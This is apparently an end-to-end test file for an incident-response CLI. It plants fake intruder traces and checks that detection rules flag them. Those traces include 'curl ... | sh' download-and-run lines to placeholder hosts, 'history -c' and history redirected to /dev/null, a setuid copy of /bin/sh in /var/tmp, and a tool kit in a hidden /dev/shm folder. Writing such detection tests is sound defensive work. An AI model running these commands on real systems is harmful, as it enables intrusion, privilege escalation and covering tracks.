/**
 * What the intruder did, through the real CLI. Offline: `collect --root` on a copy of the fake
 * roots in test/fixtures/roots/activity (an intruder's bash history, a zsh history that unsets
 * HISTFILE, a .bashrc sending history to /dev/null, root's history linked to /dev/null; and an
 * administrator's ordinary histories). Live, as root, through the guided run in tmux: a throwaway
 * account's ssh session, its stamped bash history, its kit; the account is removed after.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.js';
import { extract, tmpDir } from '../helpers/bundle.js';
import { BIN, isRoot, REPO, runCli } from '../helpers/cli.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/roots/activity/', import.meta.url));
const isActivity = (f: Finding) => f.rule.startsWith('activity.');

async function collect(args: string[]): Promise<{ findings: Finding[]; caseDir: string }> {
  const out = tmpDir('irt-act-e2e-out-');
  const r = await runCli(['collect', ...args, '--out', out, '--json'], { timeout: 300_000 });
  expect(r.code, r.stderr).toBe(0);
  const caseDir = extract(JSON.parse(r.stdout).bundle);
  const findings = JSON.parse(readFileSync(path.join(caseDir, 'findings.json'), 'utf8')) as Finding[];
  return { findings, caseDir };
}

async function collectRoot(name: string) {
  const root = path.join(tmpDir('irt-act-e2e-'), 'root');
  execFileSync('cp', ['-a', path.join(FIXTURES, name), root]);
  return collect(['--root', root, '--case', name]);
}

describe('activity rules on fake roots (collect --root)', () => {
  let infected: Awaited<ReturnType<typeof collect>>;
  let clean: Awaited<ReturnType<typeof collect>>;
  beforeAll(async () => {
    infected = await collectRoot('infected');
    clean = await collectRoot('clean');
  }, 300_000);

  it('each planted command is named with its file and line; root\'s history linked to /dev/null too', () => {
    const got = infected.findings.filter(isActivity).map((f) => `${f.rule} ${f.subject.path}:${f.subject.line ?? '-'}`).sort();
    const A = '/home/alice/.bash_history';
    expect(got).toEqual(
      [
        ...[12, 14, 18, 20, 22].map((l) => `activity.download-execute ${A}:${l}`),
        `activity.log-wipe ${A}:24`, `activity.log-wipe ${A}:26`,
        `activity.defence-off ${A}:28`, `activity.defence-off ${A}:30`, `activity.defence-off ${A}:32`,
        `activity.account-change ${A}:34`, `activity.account-change ${A}:36`, `activity.account-change ${A}:38`,
        `activity.history-tampering ${A}:40`,
        'activity.history-tampering /home/bob/.zsh_history:1',
        'activity.history-tampering /home/bob/.bashrc:1',
        'activity.history-tampering /root/.bash_history:-',
      ].sort(),
    );
    for (const f of infected.findings.filter(isActivity)) for (const e of f.evidence) expect(existsSync(path.join(infected.caseDir, e)), e).toBe(true);
  });

  it('the bundle holds the copies, the records and a timeline row per command at its stamp', () => {
    expect(readFileSync(path.join(infected.caseDir, 'files/history/home/alice/.bash_history'), 'utf8')).toContain('curl -s http://203.0.113.9/x.sh | sh');
    const files = readFileSync(path.join(infected.caseDir, 'artifacts/history-files.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(files.find((f) => f.path === '/root/.bash_history')).toMatchObject({ type: 'link', linkTarget: '/dev/null', copy: null });
    const timeline = readFileSync(path.join(infected.caseDir, 'timeline.csv'), 'utf8');
    const row = timeline.split('\n').find((l) => l.includes('x.sh | sh'))!;
    expect(row).toContain('2023-11-14T22:14:20');
    expect(row).toContain('Command time (history stamp)');
    const manifest = JSON.parse(readFileSync(path.join(infected.caseDir, 'manifest.json'), 'utf8'));
    expect(JSON.stringify(manifest.sources)).toContain('shell-history');
  });

  it('the clean root: no activity finding', () => {
    expect(clean.findings.filter(isActivity)).toEqual([]);
  });
});

const useradd = ['/usr/sbin/useradd', '/sbin/useradd'].find((p) => existsSync(p));
const userdel = ['/usr/sbin/userdel', '/sbin/userdel'].find((p) => existsSync(p));
const hasTmux = spawnSync('tmux', ['-V']).status === 0;
const hasUtmpdump = spawnSync('utmpdump', ['-V']).status === 0;
const privateMounts = isRoot && spawnSync('unshare', ['--mount', '--propagation', 'private', 'true']).status === 0;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A wtmp record as `utmpdump -r` reads it. */
function utmpLine(type: number, pid: number, id: string, user: string, line: string, host: string, sec: number): string {
  const t = new Date(sec * 1000).toISOString().replace(/\.\d+Z$/, ',000000+00:00');
  return `[${type}] [${String(pid).padStart(5, '0')}] [${id.padEnd(4)}] [${user.padEnd(8)}] [${line.padEnd(12)}] [${host.padEnd(20)}] [${host.padEnd(15)}] [${t}]`;
}

/**
 * Live, as root, driven like a responder in a real terminal (tmux): a throwaway account whose bash
 * history (with #epoch stamps) pipes curl into sh and ends with `history -c`, a kit it unpacks in a
 * hidden /dev/shm folder, a setuid shell copy root leaves in /var/tmp, and the ssh session it came
 * in by: a wtmp record from 127.0.0.3. The machine's own /var/log is never written: the guided run
 * runs in a private mount namespace whose /var/log is a fresh tmpfs holding only that wtmp.
 */
describe.skipIf(!isRoot || !useradd || !userdel || !hasTmux || !hasUtmpdump || !privateMounts)("activity, live: a throwaway account's session, in the guided run", () => {
  const user = `irta${process.pid % 100000}`;
  const home = `/home/${user}`;
  const tmuxSocket = `irt-act-${process.pid}`;
  const tmux = (...args: string[]) => execFileSync('tmux', ['-L', tmuxSocket, ...args], { encoding: 'utf8' });
  let created = false;
  let work = '';
  let uid = -1;
  // A kit unpacked in a hidden /dev/shm folder and a setuid shell copy in /var/tmp (mode 4750: only root's group can run it meanwhile).
  const kitDir = `/dev/shm/.irt-${process.pid}`;
  const suidShell = `/var/tmp/irt-${process.pid}-sh`;
  const terminal = `pts/${90 + (process.pid % 9)}`;
  let result: Awaited<ReturnType<typeof collect>>;
  let screen = '';
  const t0 = Math.floor(Date.now() / 1000) - 600;
  /** The machine's own wtmp (size, mtime), or null: the run must not change it. */
  const machineWtmp = () => (existsSync('/var/log/wtmp') ? (({ size, mtimeMs }) => ({ size, mtimeMs }))(statSync('/var/log/wtmp')) : null);
  const wtmpBefore = machineWtmp();

  beforeAll(async () => {
    work = tmpDir('irt-act-live-');
    execFileSync(useradd!, ['-m', '-d', home, '-s', '/bin/bash', user]);
    created = true;
    uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim());
    const history = [`#${t0}`, 'cd /dev/shm', `#${t0 + 10}`, 'curl -fsSL http://127.0.0.1:9/x.sh | sh', `#${t0 + 20}`, 'history -c', ''].join('\n');
    writeFileSync(`${home}/.bash_history`, history, { mode: 0o600 });
    chownSync(`${home}/.bash_history`, uid, uid);
    // The account unpacks its kit: the folder and the program are its own.
    mkdirSync(kitDir);
    copyFileSync('/bin/true', `${kitDir}/pscan2`);
    chmodSync(`${kitDir}/pscan2`, 0o755);
    chownSync(kitDir, uid, uid);
    chownSync(`${kitDir}/pscan2`, uid, uid);
    copyFileSync('/bin/sh', suidShell);
    chmodSync(suidShell, 0o4750);
    // The session: logged in from 127.0.0.3 before the first command, logged out once the kit is there.
    const logout = Math.ceil(Date.now() / 1000) + 1;
    const dump = [utmpLine(7, 4242, terminal.slice(-4), user, terminal, '127.0.0.3', t0 - 60), utmpLine(8, 4242, terminal.slice(-4), '', terminal, '', logout), ''].join('\n');
    const wtmp = path.join(work, 'wtmp');
    writeFileSync(wtmp, execFileSync('utmpdump', ['-r'], { input: dump, stdio: ['pipe', 'pipe', 'ignore'] }));
    const playbook = path.join(work, 'activity.yaml');
    writeFileSync(
      playbook,
      'title: Activity on this machine\ndescription: The shell histories and the activity rules.\nsteps:\n  - id: activity\n    kind: collect\n    title: What did they do after logging in?\n    why: Histories.\n    collect: [logins, shell-history, file-sweep]\n    rules: [activity.download-execute, activity.log-wipe, activity.defence-off, activity.account-change, activity.history-tampering, file.new-executable, file.setuid-unpackaged]\n',
    );
    const out = tmpDir('irt-act-e2e-out-');
    const since = new Date(Date.now() - 3_600_000).toISOString();
    const inner = `mount -t tmpfs -o mode=0755 tmpfs /var/log && cp "$1" /var/log/wtmp && shift && exec "$@"`;
    const quote = (a: string) => `'${a.replaceAll("'", `'\\''`)}'`;
    const cmd = ['unshare', '--mount', '--propagation', 'private', 'sh', '-c', inner, 'sh', wtmp, process.execPath, BIN, 'run', playbook, '--out', out, '--case', 'ACT', '--since', since].map(quote).join(' ');
    // A scrollback deep enough for every finding line a busy machine adds after the step's view.
    const conf = path.join(work, 'tmux.conf');
    writeFileSync(conf, 'set -g history-limit 200000\n');
    tmux('-f', conf, 'new-session', '-d', '-s', 'act', '-x', '220', '-y', '100', `cd ${quote(REPO)} && ${cmd}; echo EXIT=$?; sleep 60`);
    const capture = () => tmux('capture-pane', '-p', '-J', '-t', 'act', '-S', '-200000');
    const waitFor = async (re: RegExp, ms: number) => {
      for (const until = Date.now() + ms; ; await sleep(200)) {
        const s = capture();
        if (re.test(s)) return s;
        if (Date.now() > until) throw new Error(`timed out waiting for ${re}; screen:\n${s}`);
      }
    };
    screen = await waitFor(/^\? What next\?/m, 200_000);
    tmux('send-keys', '-t', 'act', 'Enter');
    const end = await waitFor(/EXIT=\d+/, 120_000);
    expect(end, end).toMatch(/EXIT=0/);
    const caseDir = extract(path.join(out, 'ACT.tar.gz'));
    result = { caseDir, findings: JSON.parse(readFileSync(path.join(caseDir, 'findings.json'), 'utf8')) as Finding[] };
  }, 330_000);

  afterAll(() => {
    spawnSync('tmux', ['-L', tmuxSocket, 'kill-server'], { stdio: 'ignore' });
    if (created) spawnSync(userdel!, ['-r', user], { stdio: 'ignore' });
    rmSync(home, { recursive: true, force: true });
    rmSync(kitDir, { recursive: true, force: true });
    rmSync(suidShell, { force: true });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('collect names the download-and-run and the history -c with file, line, account, time and session', () => {
    const mine = result.findings.filter((f) => isActivity(f) && f.subject.user === user);
    expect(mine.map((f) => `${f.rule} ${f.subject.path}:${f.subject.line}`).sort()).toEqual([
      `activity.download-execute ${home}/.bash_history:4`,
      `activity.history-tampering ${home}/.bash_history:6`,
    ]);
    const curl = mine.find((f) => f.rule === 'activity.download-execute')!;
    expect(curl.subject).toMatchObject({ command: 'curl -fsSL http://127.0.0.1:9/x.sh | sh', time: new Date((t0 + 10) * 1000).toISOString(), ip: '127.0.0.3' });
    expect(curl.subject.session).toMatchObject({ source: 'wtmp', user, address: '127.0.0.3', line: terminal });
    expect(curl.evidence).toContain(`files/history${home}/.bash_history`);
  });

  it('the timeline holds the commands at their stamps; nothing fires on the runner\'s own files', () => {
    const timeline = readFileSync(path.join(result.caseDir, 'timeline.csv'), 'utf8');
    expect(timeline.split('\n').find((l) => l.includes('127.0.0.1:9/x.sh'))).toContain(new Date((t0 + 10) * 1000).toISOString().slice(0, 19));
    expect(result.findings.filter((f) => isActivity(f) && typeof f.subject.path === 'string' && (f.subject.path as string).startsWith(REPO))).toEqual([]);
  });

  it('the kit in the hidden /dev/shm folder and the setuid shell in /var/tmp are named, and the bodyfile holds them', () => {
    const kit = result.findings.find((f) => f.rule === 'file.new-executable' && f.subject.path === `${kitDir}/pscan2`);
    expect(kit?.severity).toBe('high');
    const suid = result.findings.find((f) => f.rule === 'file.setuid-unpackaged' && f.subject.path === suidShell);
    expect(suid?.severity).toBe('critical');
    expect(suid?.subject.mode).toBe(0o4750);
    const body = readFileSync(path.join(result.caseDir, 'artifacts/bodyfile.txt'), 'utf8');
    expect(body).toMatch(new RegExp(`\\|${kitDir.replaceAll('.', '\\.')}/pscan2\\|\\d+\\|-rwxr-xr-x\\|${uid}\\|${uid}\\|`));
    expect(body).toContain(`|${suidShell}|`);
    const sweep = JSON.parse(readFileSync(path.join(result.caseDir, 'manifest.json'), 'utf8')).sources.find((s: { id: string }) => s.id === 'file-sweep');
    expect(sweep.status).toBe('ok');
    // Packaged set-id programs (su, passwd, mount) are not findings.
    expect(result.findings.filter((f) => f.rule === 'file.setuid-unpackaged' && /^\/usr\/bin\/(?:su|passwd|mount)$/.test(String(f.subject.path)))).toEqual([]);
  });

  it("the guided step shows the session with its commands, the account's kit and the findings", () => {
    const esc = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    const block = screen.slice(screen.indexOf(`${user} from 127.0.0.3, `));
    expect(block.split('\n')[0]).toMatch(new RegExp(`^${user} from 127\\.0\\.0\\.3, .+ UTC \\(1[12] min\\) +\\[${esc(terminal)} · wtmp\\]$`));
    // The session's block: its indented lines, up to the step's own finding lines (two spaces, then a level).
    const blockLines = block.split('\n');
    const stop = blockLines.findIndex((l, i) => i > 0 && (!l.startsWith('  ') || /^ {2}[A-Z]{3,} /.test(l)));
    const part = blockLines.slice(0, stop < 0 ? undefined : stop).join('\n');
    const rows = ['cd /dev/shm', 'curl -fsSL http://127.0.0.1:9/x.sh | sh', 'history -c'].map((c, i) => new RegExp(`^ {4}\\d\\d:\\d\\d:\\d\\d +${esc(c)} +${esc(home)}/\\.bash_history:${2 * i + 2}$`, 'm'));
    for (const r of rows) expect(part).toMatch(r);
    expect(part.search(rows[0])).toBeLessThan(part.search(rows[1]));
    expect(part).toMatch(new RegExp(`^ {4}\\d\\d:\\d\\d:\\d\\d +(created|modified) \\(elf\\) +${esc(kitDir)}/pscan2$`, 'm'));
    expect(part).toMatch(/^ {4}HIGH +New ELF executable /m);
    expect(part).toMatch(/^ {4}HIGH +.*curl -fsSL/m);
    // root's setuid shell is not the account's: not in its session.
    expect(part).not.toContain(suidShell);
  });

  it("the bundle's session-activity.json and the report's session section hold the same", () => {
    const activity = JSON.parse(readFileSync(path.join(result.caseDir, 'artifacts/session-activity.json'), 'utf8'));
    const s = activity.sessions.find((x: { user: string }) => x.user === user);
    expect(s).toMatchObject({ uid, address: '127.0.0.3', line: terminal, endKind: 'logout' });
    expect(Date.parse(s.start)).toBe((t0 - 60) * 1000);
    expect(s.commands.items.map((c: { line: number; text: string }) => `${c.line} ${c.text}`)).toEqual(['2 cd /dev/shm', '4 curl -fsSL http://127.0.0.1:9/x.sh | sh', '6 history -c']);
    expect(s.files.items.map((f: { path: string }) => f.path)).toContain(`${kitDir}/pscan2`);
    expect(s.files.items.map((f: { path: string }) => f.path)).not.toContain(suidShell);
    const ids = (rule: string) => result.findings.filter((f) => f.rule === rule && (f.subject.user === user || f.subject.path === `${kitDir}/pscan2`)).map((f) => f.id);
    expect(s.findings.items.map((f: { id: string }) => f.id).sort()).toEqual([...ids('activity.download-execute'), ...ids('activity.history-tampering'), ...ids('file.new-executable')].sort());
    const md = readFileSync(path.join(result.caseDir, 'report.md'), 'utf8');
    const section = md.slice(md.indexOf('## What was done in each session'));
    expect(section).toContain(`### ${user} from 127.0.0.3, `);
    expect(section).toContain('| curl -fsSL http&#58;//127.0.0.1:9/x.sh \\| sh |');
    expect(section).toContain(`/dev/shm/.irt-${process.pid}/pscan2`.replaceAll('_', '\\_'));
    const html = readFileSync(path.join(result.caseDir, 'report.html'), 'utf8');
    expect(html).toContain(`<h3>${user} from 127.0.0.3, `);
    expect(html).toContain('<code>curl -fsSL http://127.0.0.1:9/x.sh | sh</code>');
    expect(html).toContain(`<code>${kitDir}/pscan2</code>`);
    // The session's record lived in the run's own mount namespace only.
    expect(machineWtmp()).toEqual(wtmpBefore);
  });
});
